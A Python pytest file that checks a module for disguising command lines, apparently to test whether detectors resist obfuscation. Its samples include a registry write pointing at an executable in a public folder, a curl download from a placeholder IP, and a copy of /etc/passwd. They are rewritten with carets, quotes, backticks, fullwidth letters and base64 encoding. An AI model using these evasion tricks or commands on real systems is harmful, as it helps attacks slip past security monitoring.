"""The disguises themselves: the line is another, and means the same."""

import base64

import pytest

from tests.disguise.mutations import POSIX, WINDOWS

LINE = r'C:\Windows\System32\reg.exe add HKLM\Software\X -v "Run it" /d C:\Users\Public\a.exe'


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("carets", r"C:\Wi^ndows\Sy^stem32\reg.exe add HK^LM\So^ftware\X"),
        ("empty quotes", r'C:\Wi""ndows\Sy""stem32\reg.exe add HK""LM\So""ftware\X'),
        ("backticks", r"C:\Win`dows\Sy`stem32\reg.exe add HK`LM\Soft`ware\X"),
        ("forward slashes", r"C:/Windows/System32/reg.exe add HKLM\Software\X"),
        (r"\.\ in paths", r"C:\.\Windows\.\System32\.\reg.exe add HKLM\Software\X"),
        ("doubled spaces", r"C:\Windows\System32\reg.exe  add  HKLM\Software\X"),
        ("unicode dashes", r"C:\Windows\System32\reg.exe add HKLM\Software\X " + "\u2013v"),
        ("fullwidth letters", "\uff23:\\\uff37\uff49\uff4e\uff44\uff4f\uff57\uff53\\"),
    ],
)
def test_a_windows_line_is_disguised(name: str, wanted: str) -> None:
    assert WINDOWS[name](LINE).startswith(wanted)


def test_a_whole_line_is_encoded_as_powershell_reads_it() -> None:
    first, switch, code = WINDOWS["whole line in -enc"](LINE).split()
    assert (first, switch) == (r"C:\Windows\System32\reg.exe", "-enc")
    assert base64.b64decode(code).decode("utf-16-le") == LINE


def test_what_is_base64_stays_as_its_reader_needs_it() -> None:
    line = f"powershell -enc {'QUJD' * 20}"
    for name in ("backticks", "fullwidth letters"):
        assert WINDOWS[name](line).endswith("QUJD" * 20)


def test_a_share_keeps_its_first_separators() -> None:
    assert WINDOWS[r"\.\ in paths"](r"type \\srv\c$\a.txt") == r"type \\srv\.\c$\.\a.txt"


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("empty quotes", "cu''rl -s http://192.0.2.1/x -o /tmp/x"),
        ("escaped letters", r"cu\rl -s ht\tp://192.0.2.1/x -o /tmp/x"),
        ("/./ in paths", "cp /./etc/./passwd /./tmp/./x"),
    ],
)
def test_a_posix_line_is_disguised(name: str, wanted: str) -> None:
    line = "cp /etc/passwd /tmp/x" if name.startswith("/") else "curl -s http://192.0.2.1/x -o /tmp/x"
    assert POSIX[name](line).replace("ht''tp", "http") == wanted
